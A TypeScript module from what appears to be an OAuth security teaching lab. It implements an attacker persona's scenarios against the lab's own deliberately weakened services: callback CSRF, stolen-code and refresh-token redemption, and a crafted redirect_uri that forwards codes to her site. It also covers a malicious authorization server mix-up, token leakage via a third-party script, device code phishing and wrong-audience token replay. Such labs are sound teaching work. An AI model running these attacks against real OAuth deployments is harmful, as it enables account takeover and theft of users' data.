/**
 * @module attacks
 *
 * What Mallory does with the real services, one function per scenario of the printer's attack lab (/lab).
 * She uses only what any stranger could: her own account, public endpoints, and what leaks to her site.
 */
import type { AttackerConfig } from './config.js';
import { authorizeAs } from './mallory_browser.js';

/**
 * Scenario 1, CSRF on the callback (RFC 9700 §4.7): an authorization response for MALLORY's account, addressed to
 * the printer's lab copy. She asks without state (she could not know the victim's anyway) and without PKCE.
 * Returns the callback URL she will make the victim's browser open.
 */
export async function callbackWithMallorysCode(config: AttackerConfig): Promise<string> {
  const request = new URL(`${config.auth.publicUrl}/authorize`);
  request.searchParams.set('response_type', 'code');
  request.searchParams.set('client_id', config.labClientId);
  request.searchParams.set('redirect_uri', config.labRedirectUri);
  request.searchParams.set('scope', 'photos.read');
  const answer = await authorizeAs(
    request.href,
    config.auth.internalUrl,
    config.mallory.username,
    config.mallory.password,
    config.httpTimeoutMs,
  );
  if (!answer.startsWith(`${config.labRedirectUri}?`) || !new URL(answer).searchParams.has('code')) {
    throw new Error(`The auth server did not give Mallory a code (it sent her to ${answer.slice(0, 200)}).`);
  }
  return answer;
}

export interface Redemption {
  success: boolean;
  summary: string;
  details: string[];
}

/**
 * Scenario 2, code interception (RFC 7636 §1, RFC 9700 §4.5): a code that leaked to her site is redeemed at the
 * token endpoint as the lab's PUBLIC client (a public client has no secret to stop her). Without PKCE that is all
 * it takes; with PKCE she would need the code_verifier, which never left the victim's printer.
 */
export async function redeemStolenCode(
  config: AttackerConfig,
  code: string,
  extra: { redirect_uri?: string; code_verifier?: string } = {},
): Promise<Redemption> {
  const form = new URLSearchParams({
    grant_type: 'authorization_code',
    code,
    redirect_uri: extra.redirect_uri ?? config.labRedirectUri,
    client_id: config.labPublicClientId,
  });
  if (extra.code_verifier) form.set('code_verifier', extra.code_verifier);
  const response = await fetch(`${config.auth.internalUrl}/token`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: form.toString(),
    signal: AbortSignal.timeout(config.httpTimeoutMs),
  });
  const body = (await response.json().catch(() => ({}))) as Record<string, unknown>;
  if (response.status !== 200 || typeof body.access_token !== 'string') {
    const error = typeof body.error === 'string' ? body.error : `HTTP ${response.status}`;
    const description = typeof body.error_description === 'string' ? body.error_description : '';
    return {
      success: false,
      summary: `The auth server refused the stolen code: ${error}.`,
      details: [`${error}: ${description}`],
    };
  }
  return readPhotos(config, body.access_token, 'Mallory redeemed the stolen code and read the victim’s photo list');
}

/** With a token in hand: whose photos does Drive show her? */
async function readPhotos(config: AttackerConfig, accessToken: string, what: string): Promise<Redemption> {
  const response = await fetch(`${config.drive.internalUrl}/api/photos`, {
    headers: { authorization: `Bearer ${accessToken}` },
    signal: AbortSignal.timeout(config.httpTimeoutMs),
  });
  const body = (await response.json().catch(() => ({}))) as { owner?: unknown; photos?: { title?: unknown }[] };
  if (response.status !== 200 || typeof body.owner !== 'string' || !Array.isArray(body.photos)) {
    return { success: false, summary: `Drive refused her token (HTTP ${response.status}).`, details: [] };
  }
  const titles = body.photos.map((p) => (typeof p.title === 'string' ? p.title : '?'));
  return {
    success: true,
    summary: `${what}: ${body.owner}’s ${titles.length} photos.`,
    details: [`owner: ${body.owner}`, ...titles],
  };
}

/**
 * Scenario 3, loose redirect_uri matching (RFC 9700 §4.1): a redirect_uri that STARTS WITH the lab copy's registered
 * one, yet, once the browser resolves its `..`, lands on the printer's careless "continue to" redirect
 * (`/lab/go?to=`), which forwards the answer, code included, to her site.
 */
export function craftedRedirectUri(config: AttackerConfig, run: string): string {
  return `${config.labRedirectUri}/../go?to=${encodeURIComponent(`${config.attacker.publicUrl}/catch/${run}`)}`;
}

/**
 * Scenario 4, mix-up (RFC 9700 §4.4): Mallory runs an authorization server of her own ("Evil AS"). The printer's
 * lab copy knows two servers; the victim picked hers. Her authorization endpoint passes the request on, state and
 * code_challenge untouched, to the REAL auth server, as if the printer had sent it there. The real code then comes
 * back to the printer, which, without checking `iss`, sends it to the server it thinks it talks to: hers.
 */
export function passOnToRealServer(config: AttackerConfig, query: Record<string, unknown>): string {
  const url = new URL(`${config.auth.publicUrl}/authorize`);
  for (const name of ['response_type', 'redirect_uri', 'state', 'code_challenge', 'code_challenge_method']) {
    if (typeof query[name] === 'string') url.searchParams.set(name, query[name]);
  }
  url.searchParams.set('client_id', config.labPublicClientId); // the lab copy's id at the real server (public knowledge)
  url.searchParams.set('scope', 'photos.read');
  return url.href;
}

/** Evil AS's token endpoint: the real code (and the printer's own code_verifier!) arrive here; she redeems them. */
export async function redeemAtRealServer(
  config: AttackerConfig,
  form: { code: string; redirect_uri: string; code_verifier?: string },
): Promise<{ status: number; body: Record<string, unknown>; redemption: Redemption }> {
  const request = new URLSearchParams({
    grant_type: 'authorization_code',
    code: form.code,
    redirect_uri: form.redirect_uri,
    client_id: config.labPublicClientId,
  });
  if (form.code_verifier) request.set('code_verifier', form.code_verifier);
  const response = await fetch(`${config.auth.internalUrl}/token`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: request.toString(),
    signal: AbortSignal.timeout(config.httpTimeoutMs),
  });
  const body = (await response.json().catch(() => ({}))) as Record<string, unknown>;
  if (response.status !== 200 || typeof body.access_token !== 'string') {
    const error = typeof body.error === 'string' ? body.error : `HTTP ${response.status}`;
    return {
      status: response.status,
      body,
      redemption: { success: false, summary: `The real auth server refused the code: ${error}.`, details: [] },
    };
  }
  return {
    status: 200,
    body,
    redemption: await readPhotos(
      config,
      body.access_token,
      'Evil AS received the real code and redeemed it at the real auth server',
    ),
  };
}

/**
 * Scenario 7, refresh token theft (RFC 9700 §4.14.2): with a stolen refresh token of a public client (no secret to
 * stop her), Mallory asks for fresh access tokens herself. `endpoint` is the real token endpoint or the lab copy
 * that does not rotate. Returns her result and the refresh token to use next time (a new one when it rotated).
 */
export async function useStolenRefreshToken(
  config: AttackerConfig,
  refreshToken: string,
  endpoint: 'real' | 'lab',
): Promise<{ redemption: Redemption; next: string }> {
  const path = endpoint === 'lab' ? '/lab/no-rotation/token' : '/token';
  const response = await fetch(`${config.auth.internalUrl}${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({
      grant_type: 'refresh_token',
      refresh_token: refreshToken,
      client_id: config.labPublicClientId,
    }).toString(),
    signal: AbortSignal.timeout(config.httpTimeoutMs),
  });
  const body = (await response.json().catch(() => ({}))) as Record<string, unknown>;
  if (response.status !== 200 || typeof body.access_token !== 'string') {
    const error = typeof body.error === 'string' ? body.error : `HTTP ${response.status}`;
    const description = typeof body.error_description === 'string' ? body.error_description : '';
    return {
      redemption: { success: false, summary: `The auth server refused her refresh: ${error}.`, details: [description] },
      next: refreshToken,
    };
  }
  const next = typeof body.refresh_token === 'string' ? body.refresh_token : refreshToken;
  const rotated = next !== refreshToken;
  const redemption = await readPhotos(
    config,
    body.access_token,
    `She refreshed with the stolen token${rotated ? ' (and got a new refresh token: rotation)' : ' (the same refresh token keeps working: no rotation)'}`,
  );
  return { redemption, next };
}

/**
 * Scenario 6, implicit leakage (RFC 9700 §2.1.2): her "filter widget", a third-party script on the lab copy's
 * callback page, reports the page's full address. An access token in the fragment is hers at once; a code is
 * worthless to her without its code_verifier.
 */
export async function useLeakedAddress(config: AttackerConfig, address: string): Promise<Redemption> {
  let url: URL;
  try {
    url = new URL(address);
  } catch {
    return { success: false, summary: 'Her widget sent nothing useful.', details: [] };
  }
  const fragment = new URLSearchParams(url.hash.slice(1));
  const token = fragment.get('access_token');
  if (token) {
    const result = await readPhotos(
      config,
      token,
      'Her widget read the access token from the address (the fragment) and she used it',
    );
    return { ...result, details: ['Address seen by her script: …#access_token=…', ...result.details] };
  }
  const code = url.searchParams.get('code');
  if (code) {
    const tried = await redeemStolenCode(config, code, { redirect_uri: `${url.origin}${url.pathname}` });
    return {
      ...tried,
      summary: `Her widget read a code from the address, but: ${tried.summary}`,
      details: [
        'There is no token in the address of the code flow, and the code needs the code_verifier, which never left the printer.',
        ...tried.details,
      ],
    };
  }
  return { success: false, summary: 'Her widget found neither a token nor a code in the address.', details: [] };
}

export interface DeviceAuthorization {
  device_code: string;
  user_code: string;
  verification_uri: string;
  expires_in: number;
  interval: number;
}

/** Scenario 8, device code phishing (RFC 8628 §5.4): her "kiosk" starts a device flow, as any kiosk can. */
export async function startDeviceFlow(config: AttackerConfig): Promise<DeviceAuthorization> {
  const response = await fetch(`${config.auth.internalUrl}/device_authorization`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ client_id: config.kioskClientId, scope: 'photos.read' }).toString(),
    signal: AbortSignal.timeout(config.httpTimeoutMs),
  });
  const body = (await response.json()) as Partial<DeviceAuthorization>;
  if (
    response.status !== 200 ||
    typeof body.device_code !== 'string' ||
    typeof body.user_code !== 'string' ||
    typeof body.verification_uri !== 'string'
  ) {
    throw new Error(`The auth server did not start a device flow (HTTP ${response.status}).`);
  }
  return {
    device_code: body.device_code,
    user_code: body.user_code,
    verification_uri: body.verification_uri,
    expires_in: Number(body.expires_in) || 600,
    interval: Number(body.interval) || 5,
  };
}

/** One poll of the token endpoint (RFC 8628 §3.4): a result, or 'pending' / 'slow_down'. */
export async function pollDeviceFlow(
  config: AttackerConfig,
  deviceCode: string,
): Promise<Redemption | 'pending' | 'slow_down'> {
  const response = await fetch(`${config.auth.internalUrl}/token`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({
      grant_type: 'urn:ietf:params:oauth:grant-type:device_code',
      device_code: deviceCode,
      client_id: config.kioskClientId,
    }).toString(),
    signal: AbortSignal.timeout(config.httpTimeoutMs),
  });
  const body = (await response.json().catch(() => ({}))) as Record<string, unknown>;
  if (response.status === 200 && typeof body.access_token === 'string')
    return readPhotos(config, body.access_token, 'Her kiosk got a token: you approved it');
  if (body.error === 'authorization_pending') return 'pending';
  if (body.error === 'slow_down') return 'slow_down';
  const error = typeof body.error === 'string' ? body.error : `HTTP ${response.status}`;
  return {
    success: false,
    summary: `Her kiosk got no token: ${error}.`,
    details: [typeof body.error_description === 'string' ? body.error_description : ''],
  };
}

/**
 * Scenario 5, a token for the wrong audience (RFC 9068 §4, RFC 8707): her "Free photo filters API" receives, as it
 * should, an access token made for it. She replays it at Drive: at the real API (which checks that `aud` is Drive)
 * or at Drive's lab copy that believes any audience.
 */
export async function replayAtDrive(
  config: AttackerConfig,
  accessToken: string,
  drive: 'real' | 'lab',
): Promise<Redemption> {
  const path = drive === 'lab' ? '/lab/no-aud/api/photos' : '/api/photos';
  const response = await fetch(`${config.drive.internalUrl}${path}`, {
    headers: { authorization: `Bearer ${accessToken}` },
    signal: AbortSignal.timeout(config.httpTimeoutMs),
  });
  const body = (await response.json().catch(() => ({}))) as {
    owner?: unknown;
    photos?: { title?: unknown }[];
    error?: unknown;
    error_description?: unknown;
  };
  if (response.status !== 200 || typeof body.owner !== 'string' || !Array.isArray(body.photos)) {
    const challenge = response.headers.get('www-authenticate') ?? '';
    return {
      success: false,
      summary: `Drive refused the token (HTTP ${response.status}${typeof body.error === 'string' ? ` ${body.error}` : ''}).`,
      details: [
        typeof body.error_description === 'string' ? body.error_description : '',
        challenge ? `WWW-Authenticate: ${challenge}` : '',
      ].filter(Boolean),
    };
  }
  const titles = body.photos.map((p) => (typeof p.title === 'string' ? p.title : '?'));
  return {
    success: true,
    summary: `Her filters API replayed the token at Drive and read ${body.owner}’s ${titles.length} photos.`,
    details: [`owner: ${body.owner}`, ...titles],
  };
}
